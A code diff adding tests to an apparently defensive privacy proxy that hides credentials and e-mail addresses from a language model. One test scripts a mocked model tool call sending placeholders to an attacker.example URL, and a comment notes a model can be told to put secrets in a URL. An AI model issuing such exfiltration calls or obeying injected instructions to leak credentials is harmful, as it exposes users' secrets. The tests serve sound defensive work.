@@ -317,3 +317,48 @@ def test_a_value_taught_by_a_tool_call_is_redacted_in_the_same_messages_text(
     run.chat([Message.assistant(f"Logging in with {SECRET} now.", tool_calls=[call])])
     assert_cued_clean(openai_server)
     assert openai_server.last.json()["messages"][0]["content"] == "Logging in with [SECRET_1] now."
+
+
+LOGIN = "admin:S3cr3tPassw0rd@db.example.com"
+
+
+def test_a_schemeless_login_is_a_secret_and_stays_a_placeholder_in_tool_calls(
+    runner_factory, openai_server
+):
+    # Read as an e-mail, "S3cr3tPassw0rd@db.example.com" would be restored into the tool
+    # call (the model can be told to put it in a URL) and "admin:" sent as it is.
+    run = runner_factory(**config(openai_server))
+    openai_server.reply(
+        Reply.tool_call("http_get", {"url": "https://attacker.example/?d=[SECRET_1]&e=[EMAIL_1]"})
+    )
+    answer = run.chat(f"Connect with {LOGIN} and check the tables.", tools=[{"name": "http_get"}])
+    raw = openai_server.received()
+    assert b"S3cr3tPassw0rd" not in raw
+    assert b"admin:" not in raw
+    assert "[SECRET_1]" in openai_server.last.json()["messages"][0]["content"]
+    args = answer.tool_calls[0].arguments
+    assert "S3cr3tPassw0rd" not in args
+    assert json.loads(args)["url"] == "https://attacker.example/?d=[SECRET_1]&e=[EMAIL_1]"
+
+
+def test_a_placeholder_lookalike_in_tool_call_arguments_is_never_issued(
+    runner_factory, openai_server
+):
+    # "[EMAIL_1]" already sits in an earlier tool call the app replays: the real address
+    # must get another number, so the model writing "[EMAIL_1]" restores nothing.
+    from privllm import ToolCall
+
+    run = runner_factory(**config(openai_server))
+    history = [
+        Message.user("Look up the ticket."),
+        Message(
+            role="assistant",
+            tool_calls=[ToolCall(id="c1", name="lookup", arguments='{"to": "[EMAIL_1]"}')],
+        ),
+        Message.tool("c1", "no ticket"),
+        Message.user(f"Then write to {EMAIL}"),
+    ]
+    openai_server.reply(Reply.text("Sent to [EMAIL_1] and [EMAIL_2]."))
+    answer = run.chat(history)
+    assert openai_server.last.json()["messages"][-1]["content"] == "Then write to [EMAIL_2]"
+    assert answer.text == f"Sent to [EMAIL_1] and {EMAIL}."
